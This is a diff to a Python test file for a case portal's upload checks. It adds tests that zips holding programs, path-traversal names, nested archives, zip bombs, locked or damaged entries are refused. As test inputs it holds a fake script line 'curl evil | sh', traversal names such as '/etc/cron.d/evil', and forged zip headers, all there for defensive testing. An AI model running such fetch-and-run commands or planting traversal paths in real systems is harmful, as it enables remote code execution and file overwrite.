@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import hashlib
 import io
+import re
 import uuid
 import zipfile
 from datetime import timedelta
@@ -36,9 +37,9 @@ LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 40
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
 
 
-def zipped(members: dict[str, bytes]) -> bytes:
+def zipped(members: dict[str, bytes], *, deflated: bool = False) -> bytes:
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if deflated else zipfile.ZIP_STORED) as archive:
         for name, content in members.items():
             archive.writestr(name, content)
     return buffer.getvalue()
@@ -117,6 +118,99 @@ def test_content_that_does_not_match_its_extension_is_refused(name: str, content
         document_check(file=upload(name, content))
 
     assert str(refused.value).startswith(name)
+
+
+def nested(depth: int, inner: dict[str, bytes]) -> bytes:
+    """A zip holding `inner`, `depth` zips deep (depth 1: the zip itself)."""
+    content = zipped(inner)
+    for level in range(depth - 1):
+        content = zipped({f"level{level}.zip": content})
+    return content
+
+
+def declared_as(content: bytes, *, size: int | None = None, flags: int | None = None) -> bytes:
+    """A one-file zip whose central directory says another unpacked size or other flags."""
+    data = bytearray(content)
+    at = data.index(b"PK\x01\x02")
+    if size is not None:
+        data[at + 24 : at + 28] = size.to_bytes(4, "little")
+    if flags is not None:
+        data[at + 8 : at + 10] = flags.to_bytes(2, "little")
+    return bytes(data)
+
+
+@pytest.mark.parametrize(
+    ("inside", "words"),
+    [
+        ({"run.exe.": b"x"}, "contains programs or scripts (run.exe.)"),  # Windows drops the dot
+        ({"run.exe ": b"x"}, "contains programs or scripts (run.exe )"),  # and the space
+        ({"docs/run.exe:Zone.Identifier": b"x"}, "contains programs"),  # an NTFS stream of run.exe
+        ({"old.pif": b"x"}, "contains programs"),
+        ({"panel.cpl": b"x"}, "contains programs"),
+        ({"console.msc": b"x"}, "contains programs"),
+        ({"Invoice.PDF.SCR": b"x"}, "contains programs"),
+        ({"notes": WINDOWS_PROGRAM}, "contains programs or scripts (notes: a Windows program)"),
+        ({"scan.pdf": LINUX_PROGRAM}, "contains programs or scripts (scan.pdf: a Linux program)"),
+        ({"install": b"#!/bin/sh\ncurl evil | sh\n"}, "contains programs or scripts (install: a script)"),
+        ({"inner.zip": zipped({"setup.exe": b"x"})}, "contains programs or scripts (inner.zip/setup.exe)"),
+        ({"a.zip": nested(2, {"readme": WINDOWS_PROGRAM})}, "(a.zip/level0.zip/readme: a Windows program)"),
+        ({"../evil.txt": b"x"}, "has files outside its own folder (../evil.txt)"),
+        ({"docs/../../evil.txt": b"x"}, "outside its own folder"),
+        ({"..\\..\\evil.txt": b"x"}, "outside its own folder"),
+        ({"/etc/cron.d/evil": b"x"}, "outside its own folder"),
+        ({"C:\\Windows\\evil.txt": b"x"}, "outside its own folder"),
+        ({"inner.zip": zipped({"../evil.txt": b"x"})}, "outside its own folder (inner.zip/../evil.txt)"),
+        ({"more.rar": b"Rar!\x1a\x07\x00"}, "contains archives the portal cannot look into (more.rar)"),
+        ({"a.zip": nested(3, {"a.pdf": PDF})}, "nests archives more than 3 deep"),
+    ],
+)
+def test_a_zip_with_a_program_or_a_path_out_of_its_folder_anywhere_inside_is_refused(
+    inside: dict[str, bytes], words: str
+) -> None:
+    with pytest.raises(DocumentInvalid, match=re.escape(words)):
+        document_check(file=upload("bundle.zip", zipped(inside)))
+
+
+def test_a_docx_with_a_program_inside_is_refused() -> None:
+    docx = zipped({CT: b"<Types/>", "word/document.xml": b"<w:document/>", "word/embeddings/run.exe": b"x"})
+    with pytest.raises(DocumentInvalid, match="contains programs"):
+        document_check(file=upload("letter.docx", docx))
+
+
+def scrambled(content: bytes) -> bytes:
+    """The zip with the compressed bytes of its innermost file overwritten (its last local header's)."""
+    data = bytearray(content)
+    at = data.rindex(b"PK\x03\x04")
+    start = at + 30 + int.from_bytes(data[at + 26 : at + 28], "little")
+    data[start : start + 8] = b"\xff" * 8
+    return bytes(data)
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (declared_as(zipped({"a.txt": b"x" * 10}), size=300 * 1024 * 1024), "unpacks to more than 250 MB"),
+        (zipped({f"{n}.txt": b"" for n in range(10_001)}), "holds more than 10,000 files"),
+        (declared_as(zipped({"a.pdf": PDF}), flags=0x1), "has password-protected files (a.pdf)"),
+        (scrambled(zipped({"inner.zip": zipped({"a.txt": b"ledger " * 500}, deflated=True)})), "is damaged"),
+    ],
+)
+def test_a_zip_bomb_a_locked_or_a_damaged_zip_is_refused(content: bytes, words: str) -> None:
+    with pytest.raises(DocumentInvalid, match=re.escape(words)):
+        document_check(file=upload("bundle.zip", content))
+
+
+def test_documents_in_folders_and_a_zip_inside_a_zip_pass() -> None:
+    content = zipped(
+        {
+            "letters/demand.pdf": PDF,
+            "letters/": b"",
+            "notes.txt": b"MZ bank statement, not a program\n",
+            "scans.zip": zipped({"scan.png": PNG, "ledger.xlsx": XLSX}),  # the .xlsx is the third zip
+            "reply.eml": b"From: debtor@example.com\r\n\r\nI will pay.\r\n",
+        }
+    )
+    assert document_check(file=upload("bundle.zip", content)) == "bundle.zip"
 
 
 def test_a_renamed_program_is_refused_wherever_the_signature_sits_in_a_big_text_file() -> None:
@@ -554,6 +648,48 @@ def test_a_name_from_debitura_is_saved_under_its_base_name_only(
 )
 def test_download_names_keep_the_words_and_drop_folders_and_invisible_characters(given, saved) -> None:
     assert document_download_name(given) == saved
+
+
+def test_a_zip_from_debitura_with_a_program_inside_is_not_handed_out(
+    client, team_agent, active_case, emulator, synced, via_emulator
+):
+    bundle = zipped({"letters/demand.pdf": PDF, "inner.zip": zipped({"run.exe.": b"x"})})
+    case_file = _seed_remote_file(emulator, active_case, "bundle.zip", bundle)
+    client.force_login(team_agent)
+
+    response = client.get(reverse("cases:file_open", args=[active_case.pk, case_file.pk]), follow=True)
+
+    assert response.redirect_chain[0][0].endswith("#case-files")
+    assert (
+        "bundle.zip could not be opened: it contains programs or scripts (inner.zip/run.exe.)"
+        in response.content.decode()
+    )
+
+
+def test_a_program_from_debitura_is_not_handed_out(
+    client, team_agent, active_case, emulator, synced, via_emulator
+):
+    case_file = _seed_remote_file(emulator, active_case, "invoice.pdf", WINDOWS_PROGRAM + b"\x00" * 2000)
+    client.force_login(team_agent)
+
+    response = client.get(reverse("cases:file_open", args=[active_case.pk, case_file.pk]), follow=True)
+
+    assert "invoice.pdf could not be opened: it looks like a Windows program" in response.content.decode()
+
+
+def test_a_clean_zip_from_debitura_is_checked_whole_then_sent_byte_for_byte(
+    client, team_agent, active_case, emulator, synced, via_emulator
+):
+    bundle = zipped({"letters/demand.pdf": PDF, "big.txt": b"ledger line\n" * 200_000})
+    case_file = _seed_remote_file(emulator, active_case, "bundle.zip", bundle)
+    client.force_login(team_agent)
+
+    response = open_file(client, case_file)
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/zip"
+    assert response["Content-Disposition"] == 'attachment; filename="bundle.zip"'
+    assert body(response) == bundle
 
 
 def _seed_remote_file(emulator: Any, case: Case, name: str, content: bytes) -> CaseFile:
